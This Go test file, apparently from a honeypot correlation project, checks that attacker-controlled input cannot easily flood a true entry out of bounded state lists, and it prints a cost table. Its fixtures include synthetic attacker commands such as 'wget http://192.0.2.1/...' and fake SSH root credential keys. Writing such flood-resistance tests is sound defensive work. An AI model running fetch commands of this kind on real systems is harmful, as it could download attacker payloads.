package hostile

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"text/tabwriter"

	"dossier/correlate/event"
	"dossier/correlate/law"
	"dossier/correlate/state"
	"dossier/testbed/race"
)

// chosen says who makes the keys of a list.
type chosen string

const (
	attackers chosen = "the attacker"   // any text of his, one a request
	sensors   chosen = "sensors, rules" // names of decoys, services, sensors and rules: as many as there are
	packets   chosen = "packets"        // what packets say, by which nobody is judged
)

// capped is a bounded list of keys: one class of it, where it has classes.
type capped struct {
	document, field, class string
	limit                  *law.Limit
	key                    func(i int) string
	by                     chosen
}

func cappedLists(t *testing.T) (all []capped) {
	add := func(document, field, class string, limit *law.Limit, by chosen, key func(i int) string) {
		all = append(all, capped{document, field, class, limit, key, by})
	}
	named := func(format string) func(int) string { return func(i int) string { return fmt.Sprintf(format, i) } }
	long := func(i int) string { return digestOf(fmt.Sprint(i)) + digestOf(fmt.Sprint(i, "x")) }
	secret := func(i int) string { return "ssh\x00root\x00plaintext\x00" + digestOf(fmt.Sprint(i))[:32] }
	const a, h, d = "attacker", "hour", "target"
	for _, document := range []string{a, h, d} {
		services, deckies := &state.LimitSmall, &state.LimitDecoys
		if document == a {
			services, deckies = &state.LimitServices, &state.LimitDeckies
		}
		add(document, "Services", "", services, sensors, named("service-%d"))
		add(document, "Deckies", "", deckies, sensors, named("decky-%d"))
		add(document, "Sensors", "", &state.LimitSensors, sensors, named("sensor-%d"))
	}
	add(a, "Known", "", &state.LimitKnown, attackers, func(i int) string { return "ssh\x00wget http://192.0.2.1/" + long(i) })
	add(a, "Credentials", "", &state.LimitCredentials, attackers, secret)
	add(a, "Admitted", "", &state.LimitAdmitted, attackers, secret)
	add(h, "Tried", "", &state.LimitTried, attackers, secret)
	add(h, "Lines", "", &state.LimitLines, attackers, func(i int) string { return "wget http://192.0.2.1/" + long(i) })
	add(h, "Admitted", "", &state.LimitTried, attackers, secret)
	for _, kind := range []string{"hassh", "ja3", "ja4", "ja4h", "ja4_quic", "http_useragent", "ssh_client_banner", "ssh_public_key", "http_quirks", "jarm", "contact_url", "dns_query"} {
		add(a, "Fingerprints", kind, &state.LimitFingerprints, attackers, func(i int) string { return kind + "\x00" + long(i) })
	}
	add(a, "Artifacts", "fetched", &state.LimitArtifacts, attackers, func(i int) string { return digestOf(fmt.Sprint(i)) + "\x00http://192.0.2.1/" + long(i) + "\x00file" })
	add(a, "Artifacts", "brought", &state.LimitArtifacts, attackers, func(i int) string { return digestOf(fmt.Sprint(i)) + "\x00\x00file" })
	add(a, "Artifacts", "mails", &state.LimitArtifacts, attackers, func(i int) string { return digestOf(fmt.Sprint(i)) + "\x00\x00mail" })
	add(a, "Artifacts", "URLs", &state.LimitArtifacts, attackers, func(i int) string { return "\x00http://192.0.2.1/" + long(i) + "\x00url" })
	add(a, "Leaks", "public", &state.LimitLeaks, attackers, func(i int) string { return fmt.Sprintf("85.%d.%d.1\x00X-Forwarded-For\x00public", i>>8, i&255) })
	add(a, "Leaks", "others", &state.LimitLeaks, attackers, func(i int) string { return fmt.Sprintf("10.%d.%d.1\x00X-Forwarded-For\x00private", i>>8, i&255) })
	for _, kind := range event.IndicatorKinds() {
		add(a, "Indicators", kind, &state.LimitIndicators, attackers, func(i int) string { return state.IndicatorKey(new(event.Arena), kind, long(i)) })
	}
	add(a, "Forwards", "", &state.LimitForwards, attackers, func(i int) string { return event.ForwardMail + "\x00" + long(i) })
	add(a, "KexOrders", "", &state.LimitKexOrders, attackers, long)
	add(a, "Alerts", "", &state.LimitAlerts, attackers, func(i int) string { return fmt.Sprint("ET ", i, "\x00x\x00") })
	add(a, "SystemGuesses", "", &state.LimitSystems, packets, named("system-%d"))
	add(a, "TTLs", "", &state.LimitNumbers, packets, named("%d"))
	add(a, "Distances", "", &state.LimitNumbers, packets, named("%d"))
	add(a, "Tools", "", &state.LimitTools, sensors, named("tool-%d"))
	add(a, "Techniques", "", &state.LimitTechniques, sensors, named("T%04d"))
	for stage := range 5 {
		add(a, "Conclusions", fmt.Sprint("stage ", stage), &state.LimitConclusions, sensors, func(i int) string { return fmt.Sprint(stage, "rule-", i) })
	}
	arena := new(event.Arena)
	for _, document := range []string{a, h} {
		// From 50,001 on none is among those that matter.
		port := func(transport event.Transport) func(int) string {
			return func(i int) string { return state.PortKey(arena, transport, uint16(50_010+i%9_990)) }
		}
		add(document, "Ports", "claimed", &state.LimitPorts, attackers, port(event.TCP))
		add(document, "Ports", "proven", &state.LimitPorts, attackers, port(event.TCP|0x80))
	}
	add(a, "Claimed.Services", "", &state.LimitClaimedServices, sensors, named("service-%d"))
	add(a, "Claimed.Deckies", "", &state.LimitClaimedDeckies, sensors, named("decky-%d"))
	add(a, "Claimed.Known", "", &state.LimitShellKnown, attackers, func(i int) string { return "bash\x00wget " + long(i) + "\x00decky-1" })
	for _, kind := range []string{
		state.ClaimCommand, state.ClaimLogin, state.ClaimFingerprint, state.ClaimFile, state.ClaimLeak, state.ClaimRecipient, state.ClaimTool,
		state.ClaimTechnique, state.ClaimAlert, state.ClaimKexOrder,
	} {
		add(a, "Claimed.Evidence", kind, &state.LimitClaims, attackers, func(i int) string { return (&state.Claim{Kind: kind, Service: "snmp", A: long(i)[:64]}).Key(arena) })
	}
	// None is forgotten.
	for document, of := range map[string]reflect.Type{a: reflect.TypeFor[state.Attacker](), h: reflect.TypeFor[state.Activity](), d: reflect.TypeFor[state.Target]()} {
		for _, field := range bottoms(of, "") {
			if !slices.ContainsFunc(all, func(c capped) bool { return c.document == document && c.field == field }) {
				t.Errorf("what it costs to push something out of %s of the %s isn't measured", field, document)
			}
		}
	}
	return all
}

// bottoms are the names of the lists of keys in a state.
func bottoms(of reflect.Type, prefix string) (names []string) {
	for i := range of.NumField() {
		switch f := of.Field(i); {
		case f.Type == reflect.TypeFor[law.Bottom]():
			names = append(names, prefix+f.Name)
		case f.Type == reflect.TypeFor[state.Claimed]():
			names = append(names, bottoms(f.Type, f.Name+".")...)
		}
	}
	return names
}

// cost is how many other keys of the same class come until the true one, which
// comes as the nth, is gone; flood where it stays.
func (c *capped) cost(rank law.Rank, nth int) int {
	var list law.Bottom
	list.By(rank)
	at := event.FromTime(rigTime)
	truth := c.limit.Key(c.key(0))
	for i := range nth {
		list.See(c.key(1+i), at+event.Time(i), 0, "", c.limit)
	}
	list.See(truth, at+event.Time(nth), 0, "", c.limit)
	for i := range flood - nth {
		list.See(c.key(1+nth+i), at+event.Time(1+nth+i), 0, "", c.limit)
		// What is gone stays so: of what should stay the end tells, about.
		if (nth > 0 || i%64 == 63) && list.Get(truth) == nil {
			return nth + i + 1
		}
	}
	return flood
}

// rigTime is when the first item comes.
var rigTime = at

// What it costs to push one true entry out of each bounded list: nothing pushes
// out what came first, of what came later a flood leaves as much as a list has
// room for. docs/security.md has the bounds.
func TestWhatItCostsToPushOutOneTrueEntry(t *testing.T) {
	race.OneGoroutine(t)
	var table strings.Builder
	w := tabwriter.NewWriter(&table, 0, 0, 2, ' ', 0)
	fmt.Fprint(w, "document\tlist\tclass\twho makes the keys\tthe first ones\ta later one, in the middle of nine\n")
	for _, c := range cappedLists(t) {
		const keys = 9
		var first, later []int
		for k := range keys {
			rank := law.NewRank([law.RankKeySize]byte{byte(k), 0xd0})
			first = append(first, c.cost(rank, 0))
			later = append(later, c.cost(rank, 20))
		}
		slices.Sort(first)
		slices.Sort(later)
		show := func(n int) string {
			if n >= flood {
				return fmt.Sprintf("more than %d", flood)
			}
			return fmt.Sprint(n)
		}
		fmt.Fprintf(w, "%s\t%s\t%s\t%s\t%s\t%s\n", c.document, c.field, c.class, c.by, show(first[0]), show(later[keys/2]))
		if c.by == attackers && first[0] < flood {
			t.Errorf("%s, %s %s: the first entry is gone after %d others", c.document, c.field, c.class, first[0])
		}
		if keys > 1 && later[keys/2] < 32 { // one key alone may be an unlucky one
			t.Errorf("%s, %s %s: a later entry is gone after %d others", c.document, c.field, c.class, later[keys/2])
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	t.Log("items that get through, until one true entry is gone:\n" + table.String())
}
